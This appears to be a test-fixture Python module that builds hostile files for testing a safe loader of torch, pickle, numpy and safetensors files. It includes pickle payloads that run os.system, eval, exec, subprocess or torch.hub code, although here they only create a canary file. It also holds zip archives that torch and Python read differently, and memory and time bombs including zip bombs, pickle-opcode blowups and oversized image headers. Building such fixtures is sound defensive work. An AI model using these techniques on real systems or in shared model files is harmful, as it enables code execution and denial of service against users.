"""Hostile files. A payload creates a file, the canary, if it runs; a bomb takes memory or time."""

import copy
import io
import json
import os
import pickle
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import torch
from torch.utils import collect_env


class Payload:
    """An object that calls a function when it is unpickled."""

    def __init__(self, call: Callable[..., Any], *args: Any) -> None:
        self.call, self.args = call, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call, self.args


KINDS = ("os.system", "eval", "exec", "subprocess", "pathlib", "collect_env", "torch.hub", "pickle")


def payload(kind: str, canary: Path) -> Payload:
    """Return one of `KINDS`, which creates the canary."""
    code = f"open({str(canary)!r}, 'w').close()"
    if kind == "torch.hub":
        return Payload(partial(torch.hub.load, str(hub(canary)), "model", source="local", verbose=False))
    calls: dict[str, tuple[Callable[..., Any], tuple[Any, ...]]] = {
        "os.system": (os.system, (f"touch '{canary}'",)),
        "eval": (eval, (code,)),
        "exec": (exec, (code,)),
        "subprocess": (subprocess.check_call, (["touch", str(canary)],)),
        "pathlib": (Path.touch, (canary,)),
        "collect_env": (collect_env.run, (f"touch '{canary}'",)),
        "pickle": (pickle.loads, (pickle.dumps(Payload(os.system, f"touch '{canary}'")),)),
    }
    call, args = calls[kind]
    return Payload(call, *args)


def hub(canary: Path) -> Path:
    """Create a folder for `torch.hub.load` whose code creates the canary."""
    folder = canary.with_name(f"{canary.name}_hub")
    folder.mkdir(exist_ok=True)
    (folder / "hubconf.py").write_text(f"def model():\n    open({str(canary)!r}, 'w').close()\n")
    return folder


FORMS = ("zip", "legacy", "pickle")


def write(content: Any, path: Path, form: str = "zip") -> Path:
    """Save as `torch.save` does now, as it did before torch 1.6, or as a plain pickle."""
    if form == "pickle":
        path.write_bytes(pickle.dumps(content, protocol=2))
    else:
        torch.save(content, path, _use_new_zipfile_serialization=form == "zip")
    return path


def disguised_npy(hidden: Payload, path: Path) -> Path:
    """Write an array of objects as `numpy.save` does, under another name."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([hidden], dtype=object), allow_pickle=True)
    path.write_bytes(buffer.getvalue())
    return path


def compressed(source: Path, target: Path) -> Path:
    """Copy a zip archive with compressed entries."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, old.read(entry))
    return target


def zeros(path: Path, size: int) -> Path:
    """Write a zip archive with a compressed pickle of zeros."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("a/data.pkl", "w") as entry:
        for _ in range(size // 2**20):
            entry.write(bytes(2**20))
    return path


def two_directories(source: Path, target: Path) -> Path:
    """Write a zip archive in which Python finds stored entries, and torch the same entries compressed.

    Python takes the directory right before the end record, torch the one that this record names.
    """
    packed, plain = compressed(source, target).read_bytes(), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(plain, "w") as new:
        for entry in old.infolist():
            new.writestr(entry.filename, old.read(entry))
    files, directory, end = _parts(packed)
    other_files, other, _ = _parts(plain.getvalue())
    room = bytes(len(other_files))  # keeps the offsets in the second directory above zero
    start = len(files) + len(room)
    moved = b"".join(_moved(line, start - len(other_files)) for line in _lines(other))
    end = end[:12] + struct.pack("<LL", len(moved), start) + end[20:]
    target.write_bytes(files + room + directory + other_files + moved + end)
    return target


def _parts(archive: bytes) -> tuple[bytes, bytes, bytes]:
    """Split a zip archive into its files, its directory, and its end record of 22 bytes."""
    start = int.from_bytes(archive[-6:-2], "little")
    return archive[:start], archive[start:-22], archive[-22:]


def _lines(directory: bytes) -> list[bytes]:
    return [b"PK\1\2" + line for line in directory.split(b"PK\1\2")[1:]]


def _moved(line: bytes, by: int) -> bytes:
    return line[:42] + struct.pack("<L", int.from_bytes(line[42:46], "little") + by) + line[46:]


def overlapping(source: Path, target: Path, times: int) -> Path:
    """Copy a zip archive and add entries that all have the content of its longest one."""
    target.write_bytes(source.read_bytes())
    with zipfile.ZipFile(target, "a") as archive:
        longest = max(archive.infolist(), key=lambda entry: entry.file_size)
        for number in range(times):
            twin = copy.copy(longest)
            twin.filename = f"{longest.filename}_{number}"
            archive.filelist.append(twin)
        archive._didModify = True  # type: ignore[attr-defined]  # writes the directory again
    return target


def marked_as_folders(source: Path, target: Path) -> Path:
    """Copy a zip archive with the attribute of a folder on all entries, which makes torch read none of their bytes."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for entry in old.infolist():
            entry.external_attr = 0x10
            new.writestr(entry, old.read(entry))
    return target


def with_pickle(source: Path, target: Path, content: bytes) -> Path:
    """Copy a zip archive or a file of torch before 1.6 with another pickle as its content."""
    if not zipfile.is_zipfile(source):
        old_bytes = source.read_bytes()
        storage = content.replace(b"K\x01tQ", b"K\x01NtQ")  # storages had one more field
        target.write_bytes(old_bytes[: old_bytes.rindex(b"\x80\x02}")] + storage + b"\x80\x02].")
        return target
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for entry in old.infolist():
            new.writestr(entry.filename, content if entry.filename.endswith("/data.pkl") else old.read(entry))
    return target


def allocation(size: int) -> bytes:
    """Return a pickle of a bytearray of fewer than 2**31 bytes."""
    return b"\x80\x02cbuiltins\nbytearray\nJ" + struct.pack("<i", size) + b"\x85R."


def encodings(levels: int) -> bytes:
    """Return a pickle of a text that is written in hexadecimal digits again and again, twice as long each time."""
    start = b"\x80\x02" + _call("_codecs", "encode") * levels + _text("ab" * 500) + _text("latin1") + b"\x86R"
    return start + (_text("hex") + b"\x86R") * (levels - 1) + b"."


def repeated_encodings(text: int, times: int) -> bytes:
    """Return a pickle of a list of many copies of one text."""
    start = b"\x80\x02" + _text("a" * text) + _text("latin1") + b"\x86q\x00]("
    return start + (_call("_codecs", "encode") + b"h\x00R") * times + b"e."


def repeated_number(count: int) -> bytes:
    """Return a part of a pickle: a tensor that repeats one number of the file."""
    storage = b"(" + _text("storage") + _call("torch", "FloatStorage") + _text("0") + _text("cpu") + b"K\x01tQ"
    shape = b"K\x00J" + struct.pack("<i", count) + b"\x85K\x00\x85\x89" + _call("collections", "OrderedDict") + b")R"
    return _call("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + shape + b"tR"


def beyond_storage(count: int) -> bytes:
    """Return a part of a pickle: a tensor of more numbers than its storage has."""
    return repeated_number(count).replace(b"K\x00\x85\x89", b"K\x01\x85\x89")


def pairs_of_pairs(levels: int) -> bytes:
    """Return a part of a pickle: nested tuples, each with the one below twice; hashing takes 2**levels steps."""
    return b")" + b"".join(b"q" + bytes([level]) + b"h" + bytes([level]) + b"\x86" for level in range(levels))


def pairs_with_a_function(levels: int) -> bytes:
    """Return a part of a pickle: nested tuples as in `pairs_of_pairs`, which start with a function."""
    start = _call("torch._utils", "_rebuild_tensor_v2") + b"q\xff)"
    return start + b"".join(b"q%ch\xffh%ch%c\x87" % (level, level, level) for level in range(levels))


def one_dict_in_many(entries: int, times: int) -> bytes:
    """Return a pickle of many ordered dicts that all copy the attributes of one dict."""
    numbers = b"".join(b"J" + struct.pack("<i", number) + b"N" for number in range(entries))
    return b"\x80\x02](}q\x00(" + numbers + b"u" + (_call("collections", "OrderedDict") + b")Rh\x00b") * times + b"e."


def _call(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _text(text: str) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text.encode()


ONE = repeated_number(50_000_000)
EXCESSES: dict[str, bytes] = {  # torch accepts these pickles, and takes much memory or time to read them
    "encodings of encodings": encodings(20),
    "one text in many encodings": repeated_encodings(30_000, 20_000),
    "a set of one number": b"\x80\x02" + _call("builtins", "set") + ONE + b"\x85R.",
    "a size of one number": b"\x80\x02" + _call("torch", "Size") + ONE + b"\x85R.",
    "a call with one number": b"\x80\x02" + _call("builtins", "set") + ONE + b"R.",
    "one number in another type": b"\x80\x02"
    + _call("torch._utils", "_rebuild_device_tensor_from_cpu_tensor")
    + (b"(" + ONE + _call("torch", "float64") + _text("cpu") + b"\x89tR."),
    "a key of pairs of pairs": b"\x80\x02}" + pairs_of_pairs(60) + b"Ns.",
    "a key of pairs with a function": b"\x80\x02}" + pairs_with_a_function(60) + b"Ns.",
    "a set of pairs of pairs": b"\x80\x02" + _call("builtins", "set") + b"]" + pairs_of_pairs(60) + b"a\x85R.",
    "a dict of one number": b"\x80\x02" + _call("collections", "OrderedDict") + ONE + b"\x85R.",
    "a dict of a list of one number": b"\x80\x02" + _call("collections", "OrderedDict") + b"]" + ONE + b"a\x85R.",
    "attributes of one number": b"\x80\x02" + _call("collections", "OrderedDict") + b")R" + ONE + b"b.",
    "one dict in many": one_dict_in_many(5_000, 5_000),
}


def shared_lists(levels: int) -> list[Any]:
    """Return nested lists that stand for 2**levels strings."""
    content: list[Any] = ["a class"]
    for _ in range(levels):
        content = [content, content]
    return content


def safetensors(header: Any, data: bytes, path: Path, length: int | None = None) -> Path:
    """Write a safetensors file with any header, whose length may be false."""
    text = json.dumps(header).encode() if not isinstance(header, bytes) else header
    path.write_bytes(struct.pack("<Q", len(text) if length is None else length) + text + data)
    return path


def tensor(start: int, end: int, *shape: int) -> dict[str, Any]:
    """Return the entry of a float32 tensor in a safetensors header."""
    return {"dtype": "F32", "shape": list(shape), "data_offsets": [start, end]}


def png(path: Path, width: int, height: int) -> Path:
    """Write a PNG of a few bytes that claims any size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")
    )
    return path


def gif(path: Path, width: int, height: int) -> Path:
    """Write a GIF of a few bytes that claims any size up to 65,535 pixels a side."""
    size = struct.pack("<HH", width, height)
    frame = b"," + struct.pack("<HH", 0, 0) + size + b"\0" + b"\x02\x02D\x01\0"
    path.write_bytes(b"GIF89a" + size + b"\x80\0\0" + b"\0\0\0\xff\xff\xff" + frame + b";")
    return path


def bmp(path: Path, width: int, height: int) -> Path:
    """Write a BMP of a few bytes that claims any size."""
    path.write_bytes(
        b"BM" + struct.pack("<IHHI", 100, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, *[0] * 6)
    )
    return path


POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\nshowpage\n%%EOF\n"
